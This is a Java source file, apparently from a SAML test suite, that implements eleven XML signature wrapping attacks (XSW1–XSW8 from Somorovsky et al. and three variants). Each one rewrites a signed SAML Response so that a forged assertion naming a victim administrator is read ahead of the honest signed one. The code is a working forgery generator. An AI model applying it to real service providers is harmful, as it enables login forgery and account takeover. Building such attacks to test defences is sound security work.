package switchboard.saml;

import org.w3c.dom.Document;
import org.w3c.dom.Element;

/// The eight signature wrapping attacks of Somorovsky et al. (USENIX Security 2012) and their relatives. Each
/// keeps the honest, signed part somewhere and puts an assertion about the victim where a careless reader looks
/// first.
public enum ForgerWrapping {
    /// The signed Response lies inside the signature of a forged one.
    XSW1 {
        @Override
        void wrap(Document document) {
            var honest = document.getDocumentElement();
            var evil = forgedRoot(document, honest);
            evil.insertBefore(signatureOf(honest), evil.getFirstChild().getNextSibling())
                    .appendChild(honest);
        }
    },
    /// The signed Response stands beside its signature in a forged one.
    XSW2 {
        @Override
        void wrap(Document document) {
            var honest = document.getDocumentElement();
            var evil = forgedRoot(document, honest);
            evil.insertBefore(signatureOf(honest), evil.getFirstChild().getNextSibling());
            evil.insertBefore(honest, ForgerXml.find(evil, "Signature"));
        }
    },
    /// A forged assertion stands before the signed one.
    XSW3 {
        @Override
        void wrap(Document document) {
            var honest = assertion(document);
            honest.getParentNode().insertBefore(forged(honest), honest);
        }
    },
    /// A forged assertion holds the signed one.
    XSW4 {
        @Override
        void wrap(Document document) {
            var honest = assertion(document);
            var evil = forged(honest);
            honest.getParentNode().replaceChild(evil, honest);
            evil.appendChild(honest);
        }
    },
    /// A forged assertion has taken the signature; the one it covers comes last.
    XSW5 {
        @Override
        void wrap(Document document) {
            var honest = assertion(document);
            var evil = forged(honest);
            evil.insertBefore(signatureOf(honest), evil.getFirstChild().getNextSibling());
            honest.getParentNode().insertBefore(evil, honest);
        }
    },
    /// The same, the covered assertion inside the signature.
    XSW6 {
        @Override
        void wrap(Document document) {
            var honest = assertion(document);
            var evil = forged(honest);
            var signature = signatureOf(honest);
            honest.getParentNode().replaceChild(evil, honest);
            evil.insertBefore(signature, evil.getFirstChild().getNextSibling());
            signature.appendChild(honest);
        }
    },
    /// A forged assertion hides in an Extensions element before the signed one.
    XSW7 {
        @Override
        void wrap(Document document) {
            var honest = assertion(document);
            var extensions = document.createElementNS("urn:oasis:names:tc:SAML:2.0:protocol", "samlp:Extensions");
            extensions.appendChild(forged(honest));
            honest.getParentNode().insertBefore(extensions, honest);
        }
    },
    /// The signed assertion lies in an Object of the signature that a forged one has taken.
    XSW8 {
        @Override
        void wrap(Document document) {
            var honest = assertion(document);
            var evil = forged(honest);
            var signature = signatureOf(honest);
            honest.getParentNode().replaceChild(evil, honest);
            evil.insertBefore(signature, evil.getFirstChild().getNextSibling());
            signature
                    .appendChild(document.createElementNS(signature.getNamespaceURI(), "ds:Object"))
                    .appendChild(honest);
        }
    },
    /// A forged assertion under the id of the signed one.
    SAME_ID {
        @Override
        void wrap(Document document) {
            var honest = assertion(document);
            var evil = forged(honest);
            evil.setAttribute("ID", honest.getAttribute("ID"));
            honest.getParentNode().insertBefore(evil, honest);
        }
    },
    /// The signed assertion is the advice of a forged one.
    ADVICE {
        @Override
        void wrap(Document document) {
            var honest = assertion(document);
            var evil = forged(honest);
            honest.getParentNode().replaceChild(evil, honest);
            evil.appendChild(document.createElementNS(honest.getNamespaceURI(), "saml:Advice"))
                    .appendChild(honest);
        }
    },
    /// The signed assertion is a detail of the status.
    STATUS_DETAIL {
        @Override
        void wrap(Document document) {
            var honest = assertion(document);
            honest.getParentNode().replaceChild(forged(honest), honest);
            ForgerXml.find(document, "Status")
                    .appendChild(document.createElementNS("urn:oasis:names:tc:SAML:2.0:protocol", "samlp:StatusDetail"))
                    .appendChild(honest);
        }
    };

    public static final String VICTIM = "admin@aerolabs.io";

    abstract void wrap(Document document);

    /// Wraps a signed Response of the forger's.
    public String wrap(Forger forger) {
        var document = ForgerXml.parse(forger.text());
        wrap(document);
        return ForgerXml.print(document);
    }

    private static Element assertion(Document document) {
        return ForgerXml.find(document, "Assertion");
    }

    private static Element signatureOf(Element signed) {
        return ForgerXml.find(signed, "Signature");
    }

    /// A copy that speaks of the victim, under another id and with no signature.
    private static Element forged(Element honest) {
        var evil = (Element) honest.cloneNode(true);
        ForgerXml.remove(ForgerXml.find(evil, "Signature"));
        evil.setAttribute("ID", "_evil");
        ForgerXml.find(evil, "NameID").setTextContent(VICTIM);
        return evil;
    }

    private static Element forgedRoot(Document document, Element honest) {
        var evil = forged(honest);
        ForgerXml.find(evil, "Assertion").setAttribute("ID", "_evil2");
        document.replaceChild(evil, honest);
        return evil;
    }
}
